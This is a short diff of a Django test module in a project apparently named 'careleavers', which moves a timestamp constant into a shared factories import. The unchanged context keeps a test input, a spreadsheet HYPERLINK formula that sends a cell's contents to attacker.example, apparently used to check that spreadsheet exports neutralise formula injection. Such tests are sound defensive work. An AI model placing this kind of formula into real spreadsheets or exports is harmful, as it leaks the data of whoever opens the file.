@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import datetime
 import io
 
 import pytest
@@ -14,10 +13,10 @@ from openpyxl import load_workbook
 from careleavers.accounts.roles import Role
 from careleavers.core.tests.file_jobs import made_file
 from careleavers.core.tests.pages import form_data
+from careleavers.insight.tests.factories import ON_NOON
 
 pytestmark = pytest.mark.django_db
 
-ON_NOON = datetime.datetime(2026, 10, 31, 12, 0, tzinfo=datetime.UTC)
 LINK = '=HYPERLINK("https://attacker.example/?d="&B2,"Amy")'
 
 
